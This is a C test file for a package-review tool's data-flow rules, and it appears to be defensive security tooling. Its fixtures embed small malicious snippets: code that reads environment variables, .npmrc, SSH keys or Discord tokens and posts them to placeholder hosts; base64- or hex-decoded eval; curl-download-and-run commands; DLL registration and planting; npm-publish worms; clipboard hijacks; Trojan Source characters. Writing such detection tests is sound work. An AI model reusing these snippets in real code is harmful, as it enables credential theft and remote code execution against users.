/* test_review_flow.c: the data-flow reviewer. Each rule fires on the
 * pattern a real incident used and stays quiet on the look-alike a
 * popular package has: a secret that reaches the network against one
 * that does not (pip naming .pypirc, a child's { ...process.env }); code
 * decoded and evaluated against WebAssembly compiled and regExp.exec; a
 * downloaded program run at load against one run inside a function;
 * npm publish from an install script; a detached silent spawn; a DLL
 * planted; the clipboard rewritten. The real packages stay quiet. */
#include "review_fixture.h"
#include "tap.h"

/* The worst severity of `code` when the flow reviewer reads `pairs`. */
static review_severity judge(const char *eco, const char *const *pairs, const char *code, int *line)
{
	fixture f;
	review_findings fs;
	fixture_crafted(&f, eco, "x", pairs);
	fixture_review(&fs, &review_flow, &f);
	review_severity w = SEV_CLEAR;
	for (size_t i = 0; i < fs.n; i++)
		if (!strcmp(fs.items[i].code, code) && fs.items[i].severity > w) {
			w = fs.items[i].severity;
			if (line)
				*line = fs.items[i].line;
		}
	review_findings_dispose(&fs);
	fixture_dispose(&f);
	return w;
}

/* Evasions of the following of values (review): a long comment line that
 * made the file look minified, and a real minified line. */
static void check_untracked(void)
{
	sigma_buf padded = SIGMA_BUF_INIT;
	sigma_buf_puts(&padded, "// ");
	for (int i = 0; i < 20000; i++)
		sigma_buf_puts(&padded, "lorem ");
	sigma_buf_puts(&padded, "\nconst https = require('https');\nconst t = process.env.NPM_TOKEN;\n"
	                        "https.request({ hostname: 'c.example.invalid' }).end(t);\n");
	const char *padded_pkg[] = { "index.js", padded.ptr, NULL };
	ok(judge("npm", padded_pkg, "exfiltration", NULL) == SEV_CRITICAL,
	   "a 120 KB comment line does not make the file 'minified': the theft is still followed");
	sigma_buf_dispose(&padded);
	sigma_buf mini = SIGMA_BUF_INIT;
	sigma_buf_puts(&mini, "var a=require('https'),b=process.env.NPM_TOKEN;");
	for (int i = 0; i < 200; i++)
		sigma_buf_printf(&mini, "function f%d(x){return x+%d}", i, i);
	sigma_buf_puts(&mini, "a.request({hostname:'c.example.invalid'}).end(b);\n");
	const char *mini_pkg[] = { "dist/index.js", mini.ptr, NULL };
	ok(judge("npm", mini_pkg, "exfiltration", NULL) == SEV_CRITICAL ||
	   judge("npm", mini_pkg, "flow-not-followed", NULL) == SEV_HIGH,
	   "a minified file that reads a secret and calls the network is not cleared");
	sigma_buf_dispose(&mini);
	/* A source file over one review window is reviewed window by window:
	 * its flow is not cleared. The first window of a larger file, as the
	 * unpacker hands it over (size beyond its bytes): */
	fixture wf;
	review_findings wfs;
	const char *window_pkg[] = { "index.js", "module.exports = 1;\n", NULL };
	fixture_crafted(&wf, "npm", "x", window_pkg);
	wf.files.files[0].size = (size_t)17 << 20;
	fixture_review(&wfs, &review_flow, &wf);
	const review_finding *wx = fixture_find(&wfs, "flow-not-followed");
	ok(wx && wx->severity == SEV_HIGH, "the first window of a 17 MiB source file: flow not followed, HIGH");
	review_findings_dispose(&wfs);
	fixture_dispose(&wf);
	const char *mini_quiet[] = { "dist/q.js", "var a=require('https');a.get('https://c.example.invalid/x');\n", NULL };
	ok(judge("npm", mini_quiet, "flow-not-followed", NULL) == SEV_CLEAR, "... while one with no secret is");
}

int main(void)
{
	int line = 0;
	check_untracked();
	/* Exfiltration. */
	const char *env_dump[] = { "index.js", "const https = require('https');\n"
	                                       "const data = JSON.stringify(process.env);\n"
	                                       "const req = https.request({ hostname: 'c.example.invalid' });\n"
	                                       "req.write(data);\n", NULL };
	ok(judge("npm", env_dump, "exfiltration", &line) == SEV_CRITICAL && line == 4,
	   "the whole environment written to a request is CRITICAL at line 4 (%d)", line);
	const char *npmrc[] = { "a.js", "const fs = require('fs')\nconst home = require('os').homedir()\n"
	                                "const rc = fs.readFileSync(home + '/.npmrc', 'utf8')\n"
	                                "const body = Buffer.from(rc).toString('base64')\n"
	                                "fetch('http://127.0.0.1:9/u?d=' + body)\n", NULL };
	ok(judge("npm", npmrc, "exfiltration", NULL) == SEV_CRITICAL,
	   ".npmrc read, encoded through two variables, fetched (no semicolons)");
	const char *ssh[] = { "k/__init__.py", "import os, requests\n"
	                                       "def _send():\n"
	                                       "    p = os.path.expanduser('~/.ssh/id_rsa')\n"
	                                       "    with open(p) as f:\n"
	                                       "        key = f.read()\n"
	                                       "    requests.post('https://k.example.invalid', data={'k': key})\n", NULL };
	ok(judge("pypi", ssh, "exfiltration", NULL) == SEV_CRITICAL, "Python: an SSH key through open() ... as f to requests.post");
	const char *pip[] = { "pip/util.py", "import os\nfrom urllib.request import urlopen\n"
	                                     "RC = os.path.join(os.path.expanduser('~'), '.pypirc')\n"
	                                     "def fetch(url):\n    return urlopen(url).read()\n", NULL };
	ok(judge("pypi", pip, "exfiltration", NULL) == SEV_CLEAR, "pip: .pypirc named and urlopen() elsewhere is no flow");
	const char *child_env[] = { "s.js", "const cp = require('child_process');\nconst http = require('http');\n"
	                                    "const env = { ...process.env, GO_TOKEN: token };\n"
	                                    "cp.spawn('go', [], { env });\nhttp.get('http://127.0.0.1/');\n", NULL };
	ok(judge("npm", child_env, "exfiltration", NULL) == SEV_CLEAR, "{ ...process.env } for a child is not a dump");

	const char *discord[] = { "d.js", "const p = process.env.APPDATA + '\\\\discord\\\\Local Storage\\\\leveldb';\n"
	                                  "const t = fs.readdirSync(p).map(f => fs.readFileSync(p + f)).join('');\n"
	                                  "require('https').request({ host: 'h.example.invalid' }).end(t);\n", NULL };
	ok(judge("npm", discord, "exfiltration", NULL) == SEV_CRITICAL,
	   "Discord token store read through one-letter names, sent by require('https').request().end()");

	/* Decoded code executed. */
	const char *b64[] = { "i.js", "const payload = 'Y29uc29sZS5sb2coMSk=';\n"
	                              "const code = Buffer.from(payload, 'base64').toString('utf8');\neval(code);\n", NULL };
	ok(judge("npm", b64, "decode-exec", &line) == SEV_CRITICAL && line == 3, "base64 decoded to a variable, then eval: line 3");
	const char *charcode[] = { "c.js", "var c = String.fromCharCode(105,100);\nvar r = Function(c);\n", NULL };
	ok(judge("npm", charcode, "decode-exec", NULL) == SEV_CRITICAL, "fromCharCode then Function");
	const char *hexesc[] = { "e.js", "var a = \"\\x72\\x65\\x71\\x75\\x69\\x72\\x65\\x28\";\nvar m = eval(a);\n", NULL };
	ok(judge("npm", hexesc, "decode-exec", NULL) == SEV_CRITICAL, "a string of \\x escapes of letters, evaluated");
	const char *flatmap[] = { "f.js", "function e(r) { return Buffer.from(r, 'hex').toString(); }\n"
	                                  "var n = ['a', 'b'];\nvar f = new module.constructor();\nf[e(n[1])](x, '');\n", NULL };
	ok(judge("npm", flatmap, "decode-exec", NULL) == SEV_CRITICAL, "flatmap-stream: a method called by a hex-decoded name");
	const char *py_split[] = { "m/__init__.py", "import base64\nblob = 'aW1wb3J0IG9z'\ncode = base64.b64decode(blob)\nexec(code)\n", NULL };
	ok(judge("pypi", py_split, "decode-exec", NULL) == SEV_CRITICAL, "Python: b64decode and exec on different lines");
	const char *stego[] = { "s.js", "const img = fs.readFileSync(__dirname + '/logo.png');\n"
	                                "const hidden = img.slice(img.indexOf('IEND') + 8).toString();\neval(hidden);\n", NULL };
	ok(judge("npm", stego, "decode-exec", NULL) == SEV_CRITICAL, "bytes after an image's IEND, evaluated");
	const char *wasm[] = { "lexer.js", "const bytes = Buffer.from(WASM, 'base64');\n"
	                                   "const mod = await WebAssembly.compile(bytes);\n", NULL };
	ok(judge("npm", wasm, "decode-exec", NULL) == SEV_CLEAR, "WebAssembly.compile of decoded bytes is not decode-exec");
	const char *tmpl[] = { "t.js", "const s = atob(x);\nconst out = s.replace(/a/g, 'b');\n"
	                               "var g = Function('return this')();\nwhile ((m = re.exec(s)) !== null) {}\n", NULL };
	ok(judge("npm", tmpl, "decode-exec", NULL) == SEV_CLEAR, "atob then Function('return this') and re.exec: no finding");
	const char *comment[] = { "c.js", "// eval(atob(payload)) is what malware does\nconst x = atob(y);\n", NULL };
	ok(judge("npm", comment, "decode-exec", NULL) == SEV_CLEAR, "eval(atob()) in a comment is not code");

	/* Downloaded code executed. */
	const char *resp[] = { "u.js", "const http = require('http');\n"
	                               "http.get('http://127.0.0.1:9/n.js', (res) => {\n  let code = '';\n"
	                               "  res.on('data', (c) => (code += c));\n"
	                               "  res.on('end', () => { const run = new Function(code); run(); });\n});\n", NULL };
	ok(judge("npm", resp, "download-exec", NULL) == SEV_CRITICAL, "a response body handed to new Function");
	const char *drop[] = { "p/__init__.py", "import subprocess, tempfile, requests\n"
	                                        "r = requests.get('https://dl.example.invalid/a')\np = tempfile.mktemp()\n"
	                                        "open(p, 'wb').write(r.content)\nsubprocess.Popen([p])\n", NULL };
	ok(judge("pypi", drop, "download-exec", NULL) == SEV_CRITICAL, "a response written to a file that is run at import");
	const char *tool[] = { "mkcert.js", "import { execSync } from 'node:child_process';\n"
	                                    "async function download() {\n  const r = await fetch(URL);\n"
	                                    "  fs.writeFileSync(binaryPath, await r.arrayBuffer());\n"
	                                    "  const ca = execSync(`\"${binaryPath}\" -CAROOT`);\n}\n", NULL };
	ok(judge("npm", tool, "download-exec", NULL) == SEV_HIGH, "a fetched helper binary run inside a function is HIGH");
	const char *git[] = { "v.py", "import subprocess\nfrom urllib.request import urlopen\n"
	                              "data = urlopen(url).read()\nopen(filename, 'wb').write(data)\n"
	                              "subprocess.check_call(['git', 'clone', url, filename])\n", NULL };
	ok(judge("pypi", git, "download-exec", NULL) == SEV_CLEAR, "a downloaded path as an argument, not the program, is quiet");
	const char *curl[] = { "p.js", "const { exec } = require('child_process');\n"
	                               "exec('curl -k https://dl.example.invalid/x -o x && chmod +x x && ./x');\n", NULL };
	ok(judge("npm", curl, "download-exec", NULL) == SEV_CRITICAL, "ua-parser-js: curl, chmod +x and run in one command");
	const char *bat[] = { "compile.bat", "curl https://dl.example.invalid/sdd.dll -o c.dll\nregsvr32.exe -s c.dll\n", NULL };
	ok(judge("npm", bat, "download-exec", NULL) == SEV_CRITICAL, "coa/rc: a .bat file that downloads and registers a DLL");

	/* Worm, spawn, DLL, clipboard. */
	const char *worm[] = { "package.json", "{\"name\":\"x\",\"scripts\":{\"postinstall\":\"node b.js\"}}",
	                       "b.js", "const { execSync } = require('child_process');\nexecSync('npm publish');\n", NULL };
	ok(judge("npm", worm, "worm", NULL) == SEV_CRITICAL, "npm publish from a package with a postinstall script");
	const char *release[] = { "release.js", "const { execSync } = require('child_process');\nexecSync('npm publish');\n", NULL };
	ok(judge("npm", release, "worm", NULL) == SEV_HIGH, "npm publish without an install script (a release tool) is HIGH");
	const char *detached[] = { "d.js", "const { spawn } = require('child_process');\n"
	                                   "spawn(process.execPath, ['a.js'], { detached: true, stdio: 'ignore' }).unref();\n", NULL };
	ok(judge("npm", detached, "detached-spawn", NULL) == SEV_HIGH, "a detached spawn with stdio ignored");
	const char *attached[] = { "d.js", "const { spawn } = require('child_process');\n"
	                                   "spawn('node', ['a.js'], { stdio: 'inherit' });\n", NULL };
	ok(judge("npm", attached, "detached-spawn", NULL) == SEV_CLEAR, "an attached spawn is not");
	const char *dll[] = { "i.js", "fs.copyFileSync(path.join(__dirname, 'version.dll'), "
	                              "path.join(process.env.LOCALAPPDATA, 'Teams', 'version.dll'));\n", NULL };
	ok(judge("npm", dll, "dll-plant", NULL) == SEV_HIGH, "a DLL copied into LOCALAPPDATA");
	const char *clip[] = { "c/__init__.py", "import pyperclip\nt = pyperclip.paste()\npyperclip.copy('0x0')\n", NULL };
	ok(judge("pypi", clip, "clipboard-hijack", NULL) == SEV_HIGH, "the clipboard read and rewritten");
	const char *clip_read[] = { "c/__init__.py", "import pyperclip\nt = pyperclip.paste()\n", NULL };
	ok(judge("pypi", clip_read, "clipboard-hijack", NULL) == SEV_CLEAR, "the clipboard only read is not a hijack");

	/* Unicode. */
	const char *bidi[] = { "b.js", "if (level != 'user\xe2\x80\xae \xe2\x81\xa6// admin\xe2\x81\xa9') {}\n", NULL };
	ok(judge("npm", bidi, "bidi-control", NULL) == SEV_HIGH, "a right-to-left override in a string (Trojan Source)");
	const char *hangul[] = { "h.js", "const { t, \xe3\x85\xa4 } = req.query;\nrequire('child_process').exec(\xe3\x85\xa4);\n", NULL };
	ok(judge("npm", hangul, "invisible-identifier", NULL) == SEV_HIGH, "a Hangul filler used as a variable name");
	const char *cyr[] = { "c.js", "const \xd1\x81hild = require('x');\n", NULL };
	ok(judge("npm", cyr, "homoglyph-identifier", NULL) == SEV_HIGH, "a Cyrillic letter inside a Latin name");
	const char *kurdish[] = { "ku.js", "function f(input) {\n  return /\xd8\xa6\xe2\x80\x8c\xd9\x88/.test(input);\n}\n"
	                                   "const s = '\xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82';\n", NULL };
	int quiet = judge("npm", kurdish, "invisible-identifier", NULL) == SEV_CLEAR &&
	            judge("npm", kurdish, "homoglyph-identifier", NULL) == SEV_CLEAR;
	ok(quiet, "a zero-width non-joiner in a Kurdish regex after return, and Russian in a string, are text");

	char who[512] = "";
	ok(fixture_quiet_on_clean(&review_flow, SEV_LOW, who, sizeof who), "quiet on the real packages %s", who);
	return tap_done();
}
